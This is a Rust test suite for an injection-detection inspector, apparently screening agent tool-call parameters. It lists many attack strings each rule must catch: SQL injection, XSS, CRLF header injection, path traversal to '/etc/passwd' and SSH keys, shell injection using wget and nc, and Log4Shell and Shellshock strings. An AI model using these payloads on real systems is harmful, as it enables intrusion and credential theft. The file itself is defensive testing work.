//! Each rule with what it must catch and what it must let pass; what holds for all of them together.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, reason = "tests")]

use super::{Class, Finding, Inspector, Kind, Kinds, RuleId, RuleSet, Rules, Scratch};
use proptest::prelude::*;

fn inspector() -> Inspector {
    Inspector::new(&Rules::default())
}

fn look(kind: Kind, value: &str) -> Option<Finding> {
    inspector().inspect_text(kind, value, &mut Scratch::default())
}

/// What each rule must catch in a text.
const CAUGHT: &[(RuleId, &[&str])] = &[
    (
        RuleId::SqlUnion,
        &[
            "-1 union select 1,2,3",
            "x' UNION ALL SELECT name, pass FROM users --",
            "1/**/union/**/select/**/1",
            "24'union+all+select+1,2",
            "1 except select 2",
        ],
    ),
    (
        RuleId::SqlCondition,
        &[
            "' or '1'='1",
            "1 and 1=1",
            "x' or user_id=user_id",
            "1) or (2=2",
            "1 or 'a' like 'a'",
            "%27%20or%201%3D1",
            "aa'^0+0='0",
            "1 where 1=1",
        ],
    ),
    (
        RuleId::SqlStatement,
        &[
            "1; drop table users",
            "x'; insert into log values (1)",
            "'; waitfor delay '0:0:5'--",
            "1;declare @a int",
            "x' into outfile '/tmp/x'",
        ],
    ),
    (
        RuleId::SqlFunction,
        &["sleep(5)", "1 or pg_sleep(5)", "x'||utl_http.request('http://a')||'", "1 and benchmark(5000000,md5(1))"],
    ),
    (
        RuleId::SqlQuery,
        &[
            "1' order by 10--",
            "x' and ascii(substr(user(),1,1))>64",
            "1 and (select count(*) from users)>0",
            "substring(",
        ],
    ),
    (RuleId::SqlComment, &["admin'--", "admin' #", "x')--", "id'not like id--"]),
    (
        RuleId::XssScript,
        &[
            "<script>alert(1)</script>",
            "\"><SCRIPT SRC=//a.b/x.js>",
            "&lt;script&gt;x",
            "\u{ff1c}script\u{ff1e}x",
            "<scr\u{200b}ipt>x",
        ],
    ),
    (
        RuleId::XssEvent,
        &["<img src=x onerror=alert(1)>", "\" onfocus=alert(1) autofocus x=\"", "<svg/onload=x>", "<x ontoggle = y>"],
    ),
    (RuleId::XssUrl, &["<a href=\"java\tscript:alert(1)\">x</a>", "javascript:alert(1)", "<a href=javascript&#58;x>"]),
    (
        RuleId::XssElement,
        &[
            "<iframe src=//a.b>",
            "<object data=x>",
            "<meta http-equiv=refresh content=0>",
            "x\"><b>bold</b>",
            "<!ENTITY x SYSTEM \"y\">",
        ],
    ),
    (
        RuleId::XssStyle,
        &["<div style=\"width:expression(x)\">", "<style>@import 'x';</style>", "<p style=\"x:exp/**/ression(y)\">"],
    ),
    (
        RuleId::XssCode,
        &[
            "\";alert(1)//",
            "'-alert(1)-'",
            "self[\"al\"+\"ert\"](1)",
            "document.cookie",
            "[].constructor.constructor('x')()",
        ],
    ),
    (
        RuleId::CrlfHeader,
        &["x%0d%0aSet-Cookie: a=b", "en\r\nSet-Cookie: a=b", "a%0aHTTP/1.1 200 OK", "x%0d%0aRCPT TO:<a@b.c>"],
    ),
    (RuleId::LdapFilter, &["*)(uid=*", "x)(|(cn=*"]),
    (
        RuleId::PathClimb,
        &[
            "../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "%2e%2e%2f%2e%2e%2fetc/hosts",
            "%252e%252e%252f..%252fetc%252fpasswd",
            "/../secret",
        ],
    ),
    (RuleId::PathFile, &["/etc/passwd", "c:/boot.ini", "file:///proc/self/environ", "cat /root/.ssh/id_rsa"]),
    (RuleId::PathDisguise, &["%c0%ae%c0%ae%c0%afx", "/././././x", "/..../..../x", "///x"]),
    (
        RuleId::ShellCommand,
        &["; wget http://a.b/x", "x|nc 10.0.0.1 99", "1 && cat /etc/hosts", "a%0aping -c 3 10.0.0.1", "& dir c:\\"],
    ),
    (RuleId::ShellSubstitution, &["$(whoami)", "`uname`", "$((7*6))", "x=`cat /y`"]),
    (RuleId::ShellDisguise, &[";c'a't /x", "cat$IFS/x", "/???/b??h", "{cat,/x/y}", "who\"\"ami"]),
    (RuleId::ShellProgram, &["/bin/ls -al", "/usr/bin/id"]),
    (RuleId::ShellCode, &["${jndi:ldap://a.b/c}", "() { :;}; x", "system('id')", "<?php x", "print(`id`)", "sh -c x"]),
    (RuleId::PrototypeKey, &["__proto__[a]=1", "{\"__proto__\":{\"a\":1}}", "constructor.prototype.a=1"]),
    (RuleId::NullByte, &["x\0y"]),
];

/// What people and agents write, none of which is an attack.
const PASSES: &[&str] = &[
    "Please select the union and order by phone; drop us a line or two.",
    "I usually select icecream where cookies are in union with other fruits",
    "O'Keefe's and Smith's reports aren't ready, so let's wait 'til Monday.",
    "'Quoted' and \"double quoted\" words (and some in parentheses) = fine?",
    "Rock 'n' roll; salt & pepper; cats|dogs; 50% off #1 deals -- today only!",
    "Meet at 5:30 and bring 2-3 friends, or 4 if possible. Cost: $20-$30 = cheap.",
    "Dear all,\r\n\r\nSubject: minutes\r\nContent: see below.\r\n\r\nBest regards",
    "The <b> tag makes text bold; a > b and c < d.",
    "See `npm install` and `ls`, then run `cargo test`.",
    "| Python | 3.11 |\n|---|---|\n| Rust | 1.95 |",
    "import x from '../../lib/x.ts'",
    "[docs](../guide/readme.md) and ../images/a.png",
    "kill the process, then execute the query and find the file",
    "70\" ROUND TABLE CLOTH, 4.7\" & iPhone 6 Plus 5.5",
    "mammal;cat;ears",
    "SELECT * FROM Employee WHERE status = 'active'",
    "cd(folder='Documentation')",
    "https://www.example.com/search?q=a+b&page=2&sort=date#top",
    "C++ and C# are languages; 1 + 1 = 2",
    "alice@example.com",
    "+14155550100",
    "The prompt (and the script) were confirmed: javascript: the good parts",
    "Поздравляем! Ваш заказ №5 готов, спасибо.",
    "您好，订单（第 3 号）已发货；请查收。",
    "We don’t know — “maybe” later… 🙂",
    "{\"name\": \"x\", \"values\": [1, 2]}",
    "user.prototype design, the prototype phase and constructor signing",
];

#[test]
fn each_rule_catches_what_it_must() {
    let inspector = inspector();
    let mut scratch = Scratch::default();
    let mut missed = Vec::new();
    for (rule, values) in CAUGHT {
        for value in *values {
            let only = Inspector::new(&Rules { on: RuleSet::NONE.with(*rule), patterns: Vec::new() });
            if only.inspect_text(Kind::Text, value, &mut scratch).map(|finding| finding.rule) != Some(*rule) {
                missed.push(format!("{} alone misses {value:?}", rule.id()));
            }
            if inspector.inspect_text(Kind::Text, value, &mut scratch).is_none() {
                missed.push(format!("{value:?} passes"));
            }
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
    let tested = CAUGHT.iter().fold(RuleSet::NONE, |set, (rule, _)| set.with(*rule));
    let elsewhere = [RuleId::NotPhone, RuleId::NotEmail, RuleId::NotUrl, RuleId::Custom, RuleId::CrlfLine];
    let untested: Vec<_> = RuleId::ALL.iter().filter(|rule| !tested.has(**rule) && !elsewhere.contains(rule)).collect();
    assert!(untested.is_empty(), "{untested:?}");
}

#[test]
fn what_people_write_passes() {
    let found: Vec<_> = PASSES.iter().filter_map(|value| Some((value, look(Kind::Text, value)?))).collect();
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn a_kind_says_which_rules_apply() {
    for (kind, passes, refused) in [
        (
            Kind::Html,
            &["<p class=\"a\">x</p><table><tr></table>", "<a href=\"https://a.b/?c=d&e=f\">x</a>"][..],
            &["<p onclick=x()>", "<script>x</script>"][..],
        ),
        (Kind::Sql, &["select 1 union select 2 -- x", "drop table x; select sleep(5)"], &["select 1\0"]),
        (Kind::Code, &["cat /etc/passwd | sh; rm -rf ../../..", "<script>alert(1)</script>", "x = `ls`"], &["x\0"]),
        (
            Kind::Path,
            &["/home/user/notes.txt", "notes/2024/a b.md"],
            &["../x", "a/../../x", "a/..", "x; rm -rf y", "a%2f..%2fb"],
        ),
        (
            Kind::Url,
            &["https://a.b/c?d=e&f=g", "a.b:8080/x", "mailto:a@b.c"],
            &["javascript:alert(1)", "file:///etc/passwd", "https://a.b/\r\nX: y"],
        ),
        (
            Kind::Phone,
            &["+14155550100", "+491701234567"],
            &["4155550100", "+1 415 555 0100", "+0123456789", "+1415555010012345", "", "+1415555010x"],
        ),
        (
            Kind::Email,
            &["a.b+c@example.com", "x@sub.example.co.uk"],
            &["a@b@c", "a b@c.d", "a@b.c\r\nBcc: d@e.f", "@b.c", "a@", "a@.b"],
        ),
        (Kind::Header, &["Your order", "Re: a & b"], &["x\r\nBcc: a@b.c", "x\ny", "<script>x</script>"]),
    ] {
        for value in passes {
            assert_eq!(look(kind, value), None, "{kind:?} {value:?}");
        }
        for value in refused {
            assert!(look(kind, value).is_some(), "{kind:?} {value:?}");
        }
    }
}

#[test]
fn says_where_and_whether_it_was_hidden() {
    let plain = look(Kind::Text, "note <script>x</script>").unwrap();
    assert_eq!((plain.rule, plain.at, plain.disguised), (RuleId::XssScript, 5, false));
    assert!(look(Kind::Text, "note &lt;script&gt;x").unwrap().disguised);
    assert_eq!(look(Kind::Text, "x%00.png").unwrap().rule, RuleId::NullByte);
}

fn call(message: &str, kinds: &Kinds) -> Option<super::Found> {
    let (inspector, mut scratch) = (inspector(), Scratch::default());
    inspector.inspect_call(message.as_bytes(), kinds, &mut scratch).unwrap()
}

#[test]
fn strings_and_keys_of_params_are_found_wherever_they_are() {
    let message = |params: &str| format!("{{\"jsonrpc\":\"2.0\",\"method\":\"x\",\"params\":{params}}}");
    for (params, pointer, in_key) in [
        (r#"{"name":"a","arguments":{"b":["c",{"d":"' or '1'='1"}]}}"#, "/params/arguments/b/1/d", false),
        (r#"{"arguments":{"b":{"__proto__":{"c":1}}}}"#, "/params/arguments/b", true),
        (r#"{"arguments":{"constructor":{"x":1,"prototype":{}}}}"#, "/params/arguments", true),
        (r#"{"arguments":{"<script>x</script>":1}}"#, "/params/arguments", true),
        (r#"{"arguments":{"a b":{"x\u0000":"\u003cscript\u003ex"}}}"#, "/params/arguments/*", true),
        (r#"{"_meta":{"x":"\u003cscript\u003ey"}}"#, "/params/_meta/x", false),
        (r#"["-1 union select 1,2"]"#, "/params/0", false),
    ] {
        let found = call(&message(params), &Kinds::default()).unwrap_or_else(|| panic!("{params}"));
        assert_eq!((found.pointer.as_str(), found.in_key), (pointer, in_key), "{params}");
    }
    assert_eq!(call(&message(r#"{"arguments":{"a":"b","constructor":{"x":1}}}"#), &Kinds::default()), None);
    assert_eq!(call(r#"{"id":"' or '1'='1","method":"x","params":{}}"#, &Kinds::default()), None, "only params");
    assert!(inspector().inspect_call(b"{", &Kinds::default(), &mut Scratch::default()).is_err());
}

#[test]
fn pointers_declare_kinds_and_the_longest_decides() {
    let message = |arguments: &str| format!("{{\"params\":{{\"arguments\":{arguments}}}}}");
    let kinds =
        Kinds::new([("sql", Kind::Sql), ("/files", Kind::Code), ("/files/*/path", Kind::Path), ("/a~1b", Kind::Phone)]);
    assert!(kinds.have_form());
    for (arguments, passes) in [
        (r#"{"sql":"select 1 union select 2"}"#, true),
        (r#"{"other":"select 1 union select 2"}"#, false),
        (r#"{"files":[{"text":"cat ../../../etc/passwd"}]}"#, true),
        (r#"{"files":[{"path":"../x"}]}"#, false),
        (r#"{"a/b":"hello"}"#, false),
        (r#"{"a/b":"+14155550100"}"#, true),
    ] {
        assert_eq!(call(&message(arguments), &kinds).is_none(), passes, "{arguments}");
    }
    let exempt = Kinds::default().without(RuleSet::of(Class::SqlInjection));
    assert_eq!(call(&message(r#"{"q":"1 union select 2"}"#), &exempt), None);
    assert!(call(&message(r#"{"q":"<script>x</script>"}"#), &exempt).is_some());
}

#[test]
fn patterns_of_the_policy_are_refused_in_either_case_and_behind_disguises() {
    let rules = Rules { on: RuleSet::ALL, patterns: vec!["corp.internal".into()] };
    let (inspector, mut scratch) = (Inspector::new(&rules), Scratch::default());
    for value in ["see Corp.Internal now", "corp%2einternal"] {
        assert!(inspector.is_candidate(value.as_bytes(), &mut scratch), "{value}");
        let finding = inspector.inspect_text(Kind::Text, value, &mut scratch).unwrap();
        assert_eq!(finding.rule, RuleId::Custom, "{value}");
    }
}

#[test]
fn rules_have_names_of_their_own() {
    let mut ids: Vec<_> = RuleId::ALL.iter().map(|rule| rule.id()).collect();
    assert!(ids.iter().all(|id| RuleSet::named(id).is_some()));
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), RuleId::ALL.len());
    assert!(RuleId::ALL.len() <= 64, "one bit each");
    assert_eq!(RuleSet::named("xss"), Some(RuleSet::of(Class::Xss)));
    assert_eq!(RuleSet::named("nonsense"), None);
}

/// As it stands in a message: between quotes.
fn is_candidate(inspector: &Inspector, value: &str) -> bool {
    let quoted = format!("{{\"a\":\"{value}\"}}");
    inspector.is_candidate(quoted.as_bytes(), &mut Scratch::default())
}

#[test]
fn what_a_rule_catches_has_a_sign() {
    let inspector = inspector();
    for value in CAUGHT.iter().flat_map(|(_, values)| *values) {
        assert!(is_candidate(&inspector, value), "{value:?}");
    }
    for value in ["Hello Alice, see you at ten.", "a.b-c_d", "He said he would document it"] {
        assert!(!is_candidate(&inspector, value), "{value:?}");
    }
}

/// Pieces that texts are made of.
fn pieces() -> impl Strategy<Value = String> {
    let piece = prop::sample::select(vec![
        "'",
        "\"",
        "or",
        "and",
        " ",
        " ",
        "1",
        "=",
        "union",
        "select",
        "from",
        "users",
        "--",
        "#",
        "(",
        ")",
        ",",
        ";",
        "|",
        "&",
        "`",
        "$(",
        "cat",
        "ls",
        "/etc/passwd",
        "../",
        "..",
        "/",
        "\\",
        "<",
        ">",
        "script",
        "img",
        "onerror",
        "alert",
        "javascript:",
        "%27",
        "%",
        "&#39;",
        "&lt;",
        "\\u003c",
        "\u{ff1c}",
        "\u{200b}",
        "\n",
        "\r\n",
        "set-cookie:",
        "__proto__",
        ".",
        "[",
        "]",
        "{",
        "}",
        "sleep",
        "a",
        "it's",
        "é",
        "中",
        "🙂",
        "+",
        "*",
        "?",
        "0x2e",
        "if",
        "exist",
        "not",
        "like",
        "case",
        "when",
        "having",
        "order by",
        "values",
        "bin/",
        "document",
        "constructor",
        "call",
        "insert into",
        "drop table",
    ]);
    prop::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn any_text_is_looked_at_without_harm(text in any::<String>(), kind in prop::sample::select(Kind::ALL.to_vec())) {
        if let Some(finding) = look(kind, &text) {
            prop_assert!(finding.disguised || finding.at <= text.len());
        }
    }

    #[test]
    fn a_finding_does_not_depend_on_what_was_looked_at_before(first in pieces(), second in pieces()) {
        let (inspector, mut scratch) = (inspector(), Scratch::default());
        let fresh = inspector.inspect_text(Kind::Text, &second, &mut Scratch::default());
        inspector.inspect_text(Kind::Text, &first, &mut scratch);
        prop_assert_eq!(inspector.inspect_text(Kind::Text, &second, &mut scratch), fresh);
    }

    #[test]
    fn texts_of_words_and_numbers_have_no_finding(text in "[a-z0-9]{1,8}( [a-z0-9]{1,8}){0,8}") {
        prop_assume!(!text.contains("etcpasswd"));
        if !is_candidate(&inspector(), &text) {
            prop_assert_eq!(look(Kind::Text, &text), None);
        }
    }
}
